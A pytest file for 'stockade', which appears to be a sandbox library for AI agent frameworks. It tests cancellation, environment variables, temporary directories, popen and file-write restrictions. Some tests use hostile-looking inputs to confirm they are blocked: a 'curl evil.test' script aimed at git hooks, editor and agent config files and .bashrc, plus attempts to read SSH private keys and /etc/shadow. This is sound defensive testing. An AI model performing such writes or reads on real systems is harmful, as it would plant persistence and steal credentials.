"""The parts of the Python API that agent frameworks need (issue 25, research
integrations.md §3): cancellation, per-run variables, a session /tmp, any readable cwd,
long-lived processes, and host-side file operations that keep to the sandbox's rules."""

from __future__ import annotations

import asyncio
import os
import subprocess
import time
from pathlib import Path

import pytest

import stockade
from stockade import AccessRequest, Answer
from tests.conftest import World

pytestmark = pytest.mark.usefixtures("kernel")


# -- the process tree, as recorded from /proc --------------------------------------------


def _start_time(pid: int) -> str | None:
    """The process's start time (field 22 of stat): a pid reused later has another."""
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return None
    fields = stat.rsplit(")", 1)[1].split()
    return None if fields[0] in ("Z", "X") else fields[19]


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode().strip()
    except OSError:
        return ""


#: A recorded process: pid, start time, command line (read while it ran).
Proc = tuple[int, str, str]


def descendants(pid: int | None = None) -> set[Proc]:
    """Every live process below ``pid`` (this process)."""
    out: set[Proc] = set()
    todo = [pid or os.getpid()]
    while todo:
        parent = todo.pop()
        try:
            tasks = os.listdir(f"/proc/{parent}/task")
        except OSError:
            continue
        for task in tasks:
            try:
                children = Path(f"/proc/{parent}/task/{task}/children").read_text().split()
            except OSError:
                continue
            for child in map(int, children):
                started = _start_time(child)
                if started is not None:
                    out.add((child, started, _cmdline(child)))
                    todo.append(child)
    return out


def alive(procs: set[Proc]) -> set[Proc]:
    """Those of ``procs`` still running (the same process: pid and start time)."""
    return {p for p in procs if _start_time(p[0]) == p[1]}


def commands(procs: set[Proc]) -> list[str]:
    return sorted(p[2] for p in procs)


async def until_running(command: str, deadline: float = 30.0) -> set[Proc]:
    """The recorded tree once ``command`` itself runs (not bubblewrap's argv naming it)."""
    end = time.monotonic() + deadline
    while time.monotonic() < end:
        tree = descendants()
        if any(c.startswith(command) for c in commands(tree)):
            return tree
        await asyncio.sleep(0.05)
    raise AssertionError(f"{command!r} never started")


# -- cancellation ------------------------------------------------------------------------


def test_cancelled_arun_leaves_no_process(world: World) -> None:
    async def main() -> tuple[set[Proc], float]:
        task = asyncio.create_task(
            stockade.arun(["sleep", "30"], workspace=world.workspace, env=world.env)
        )
        await asyncio.sleep(0.5)
        tree = await until_running("sleep 30")
        started = time.monotonic()
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        return tree, time.monotonic() - started

    tree, took = asyncio.run(main())
    assert any(c.startswith("sleep 30") for c in commands(tree))
    assert len(tree) >= 2  # bubblewrap and what it holds, not only the command
    # arun re-raised only once the run was over: the whole recorded tree is gone now.
    assert alive(tree) == set(), commands(alive(tree))
    assert took < 20


def test_arun_not_cancelled_runs_to_its_end(world: World) -> None:
    async def main() -> stockade.CompletedRun:
        with stockade.Sandbox(workspace=world.workspace, env=world.env) as sb:
            return await sb.arun(
                ["sh", "-c", "sleep 0.3; echo done"], capture_output=True, text=True
            )

    r = asyncio.run(main())
    assert (r.returncode, r.stdout) == (0, "done\n")


def test_cancel_while_an_ask_waits(world: World, ok_server: int) -> None:
    """The command's connection waits for an approver that never answers; cancelling the
    task ends the run (and the ask) at once, not after ask_timeout."""
    policy = world.root / "p.toml"
    policy.write_text('[network]\nhosts = { "a.test" = "127.0.0.1" }\n')
    asked = asyncio.Event()

    async def approver(request: AccessRequest) -> Answer:
        asked.set()
        await asyncio.Event().wait()  # never answers
        return Answer.allow()

    async def main() -> tuple[set[Proc], float]:
        with stockade.Sandbox(
            policy, workspace=world.workspace, env=world.env, ask=approver, ask_timeout=600
        ) as sb:
            task = asyncio.create_task(
                sb.arun(["curl", "-sS", "-m", "300", f"http://a.test:{ok_server}/"])
            )
            await asyncio.wait_for(asked.wait(), 60)
            tree = await until_running("curl")
            started = time.monotonic()
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task
            return tree, time.monotonic() - started

    tree, took = asyncio.run(main())
    assert any(c.startswith("curl") for c in commands(tree))
    assert alive(tree) == set()
    assert took < 60  # far below ask_timeout (600) and curl's -m 300


# -- per-run variables -------------------------------------------------------------------


def _policy_file(world: World, text: str) -> Path:
    path = world.root / "env.toml"
    path.write_text(text)
    return path


def test_set_env_is_layered_over_env_set(world: World) -> None:
    policy = _policy_file(world, '[env]\nset = { A = "policy", B = "policy" }\n')
    show = ["sh", "-c", 'echo "$A $B $C"']
    r = stockade.run(
        show,
        policy=policy,
        workspace=world.workspace,
        env=world.env,
        capture_output=True,
        text=True,
        set_env={"A": "run"},
    )
    assert r.stdout == "run policy \n"
    with stockade.Sandbox(
        policy, workspace=world.workspace, env=world.env, set_env={"B": "sandbox", "C": "sb"}
    ) as sb:
        assert sb.run(show, capture_output=True, text=True).stdout == "policy sandbox sb\n"
        r = sb.run(show, capture_output=True, text=True, set_env={"C": "run"})
        assert r.stdout == "policy sandbox run\n"
        # Per run: the next run is back to the Sandbox's values.
        assert sb.run(show, capture_output=True, text=True).stdout == "policy sandbox sb\n"


def test_set_env_credential_needs_the_policys_consent(world: World) -> None:
    with pytest.raises(stockade.PolicyError, match="looks like a credential"):
        stockade.run(["true"], workspace=world.workspace, env=world.env, set_env={"GH_TOKEN": "x"})
    with pytest.raises(stockade.PolicyError, match="looks like a credential"):
        stockade.Sandbox(workspace=world.workspace, env=world.env, set_env={"API_KEY": "x"})
    with pytest.raises(stockade.PolicyError, match="not a valid"):
        stockade.run(["true"], workspace=world.workspace, env=world.env, set_env={"A-B": "x"})
    policy = _policy_file(world, '[env]\npass = [{ name = "GH_TOKEN", allow_secret = true }]\n')
    r = stockade.run(
        ["sh", "-c", 'echo "$GH_TOKEN"'],
        policy=policy,
        workspace=world.workspace,
        env={k: v for k, v in world.env.items() if k != "GH_TOKEN"},
        capture_output=True,
        text=True,
        set_env={"GH_TOKEN": "given"},
    )
    assert r.stdout == "given\n"


# -- session /tmp and cwd ----------------------------------------------------------------


def test_session_tmp_is_kept_across_runs(world: World) -> None:
    with stockade.Sandbox(workspace=world.workspace, env=world.env, tmp="session") as sb:
        assert sb.run(["sh", "-c", "echo kept > /tmp/note"]).returncode == 0
        r = sb.run(["cat", "/tmp/note"], capture_output=True, text=True)
        assert r.stdout == "kept\n"
        r = sb.run(["sh", "-c", "mkdir -p /tmp/d && cd /tmp/d && pwd"], capture_output=True)
        assert sb.run(["pwd"], cwd="/tmp/d", capture_output=True, text=True).stdout == "/tmp/d\n"
        host_dir = sb._tmp_dir
        assert host_dir is not None
        assert (host_dir / "note").read_text() == "kept\n"
    assert not host_dir.exists()  # close() removed it
    # The default stays a fresh /tmp per run.
    with stockade.Sandbox(workspace=world.workspace, env=world.env) as sb:
        assert sb.run(["sh", "-c", "echo x > /tmp/note"]).returncode == 0
        assert sb.run(["cat", "/tmp/note"], capture_output=True).returncode != 0
    with pytest.raises(ValueError, match="session"):
        stockade.Sandbox(workspace=world.workspace, env=world.env, tmp="forever")


def test_cwd_may_be_any_readable_directory(world: World) -> None:
    def pwd(cwd: str | Path) -> str:
        r = stockade.run(
            ["pwd"], workspace=world.workspace, env=world.env, cwd=cwd, capture_output=True
        )
        return str(r.stdout.decode().strip())

    assert pwd("/") == "/"
    assert pwd("/usr") == "/usr"
    (world.workspace / "sub").mkdir()
    assert pwd(world.workspace / "sub") == str(world.workspace / "sub")
    # Where the command could not read, stockade refuses rather than run elsewhere.
    for hidden in (world.home / ".ssh", world.home, world.root):
        with pytest.raises(stockade.SandboxError, match="not a directory the sandbox can read"):
            pwd(hidden)


# -- popen -------------------------------------------------------------------------------


def test_popen_talks_to_a_persistent_shell(world: World) -> None:
    with stockade.Sandbox(workspace=world.workspace, env=world.env) as sb:
        proc = sb.popen(
            ["sh"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        assert proc.pid is not None
        assert proc.poll() is None
        assert proc.stdin is not None
        assert proc.stdout is not None
        proc.stdin.write("x=41; echo start\n")
        assert proc.stdout.readline() == "start\n"
        proc.stdin.write("echo $((x + 1)); cd /usr; pwd\n")  # state is kept between lines
        assert proc.stdout.readline() == "42\n"
        assert proc.stdout.readline() == "/usr\n"
        out, err = proc.communicate("cat ~/.ssh/id_ed25519; echo end $?\n")
        assert world.canary not in out
        assert out.endswith("end 1\n")
        assert err is None
        assert proc.returncode == 0
        assert proc.result is not None
        assert proc.result.events[-1]["event"] == "run_end"


def test_popen_kill_ends_the_whole_tree(world: World) -> None:
    with stockade.Sandbox(workspace=world.workspace, env=world.env) as sb:
        with sb.popen(["sh", "-c", "sleep 60 & exec sleep 61"], stdout=subprocess.PIPE) as proc:
            tree = asyncio.run(until_running("sleep 61"))
            proc.kill()
            assert proc.wait(timeout=30) != 0
            assert alive(tree) == set(), commands(alive(tree))
        with pytest.raises(subprocess.TimeoutExpired):
            sb.popen(["sleep", "60"]).communicate(timeout=0.5)


def test_popen_refuses_to_start_when_the_sandbox_cannot(world: World) -> None:
    with stockade.Sandbox(workspace=world.workspace, env=world.env) as sb:
        with pytest.raises(stockade.SandboxError, match="cwd"):
            sb.popen(["true"], cwd=world.home)
        sb.close()
        with pytest.raises(stockade.SandboxError, match="closed"):
            sb.popen(["true"])


def test_apopen_round_trip_and_cancel(world: World) -> None:
    async def main() -> tuple[bytes | None, set[Proc]]:
        with stockade.Sandbox(workspace=world.workspace, env=world.env) as sb:
            proc = await sb.apopen(
                ["sh", "-c", "read x; echo $x$x"], stdin=subprocess.PIPE, stdout=subprocess.PIPE
            )
            out, _ = await proc.communicate(b"yo\n")
            assert proc.returncode == 0
            slow = await sb.apopen(["sleep", "62"])
            tree = await until_running("sleep 62")
            waiting = asyncio.create_task(slow.wait())
            await asyncio.sleep(0.2)
            waiting.cancel()
            with pytest.raises(asyncio.CancelledError):
                await waiting
            return out, tree

    out, tree = asyncio.run(main())
    assert out == b"yoyo\n"
    assert alive(tree) == set()


# -- host-side files ---------------------------------------------------------------------


def test_write_file_keeps_to_what_the_sandbox_may_write(world: World) -> None:
    ws = world.workspace
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / "link").symlink_to(ws / ".git" / "hooks")
    (ws / "out").symlink_to(world.home)
    with stockade.Sandbox(workspace=ws, env=world.env) as sb:
        # The allowed thing: a workspace file, with its directories.
        assert sb.write_file("src/app.py", "print(1)\n") == ws / "src" / "app.py"
        assert (ws / "src" / "app.py").read_text() == "print(1)\n"
        assert sb.read_file("src/app.py") == b"print(1)\n"
        # What the sandbox keeps read-only, by every spelling.
        for target in (
            ".git/hooks/pre-commit",
            ws / ".git" / "config",
            ".claude/settings.json",
            ".vscode/tasks.json",
            "link/post-checkout",
            "out/.bashrc",
            world.home / ".bashrc",
        ):
            with pytest.raises(stockade.Denied) as caught:
                sb.write_file(target, "#!/bin/sh\ncurl evil.test\n")
            assert caught.value.layer == "files"
            assert caught.value.reason in ("path-protected", "path-not-granted")
        assert not (ws / ".git" / "hooks" / "pre-commit").exists()
        assert not (ws / ".claude").exists()
        assert (world.home / ".bashrc").read_text() == "# bashrc\n"
        # What it cannot read.
        for target in (world.home / ".ssh" / "id_ed25519", "/etc/shadow", "out/.ssh/id_ed25519"):
            with pytest.raises(stockade.Denied):
                sb.read_file(target)
        assert sb.check_read("/usr/bin") == Path("/usr/bin")
        assert sb.check_write("notes.txt") == ws / "notes.txt"


def test_write_file_honours_deny_and_protect(world: World) -> None:
    policy = _policy_file(world, '[filesystem]\ndeny = ["secrets/**"]\nprotect = ["ci"]\n')
    (world.workspace / "secrets").mkdir()
    (world.workspace / "secrets" / "k").write_text("k")
    (world.workspace / "ci").mkdir()
    with stockade.Sandbox(policy, workspace=world.workspace, env=world.env) as sb:
        with pytest.raises(stockade.Denied, match="path-denied"):
            sb.read_file("secrets/k")
        with pytest.raises(stockade.Denied, match="path-denied"):
            sb.write_file("secrets/k", "x")
        with pytest.raises(stockade.Denied, match="path-protected"):
            sb.write_file("ci/run.sh", "x")
        sb.write_file("docs/a.md", "a")
        # The sandbox itself agrees with the host-side answers.
        r = sb.run(["sh", "-c", "echo x > ci/run.sh"], capture_output=True)
        assert r.returncode != 0
        assert not (world.workspace / "ci" / "run.sh").exists()
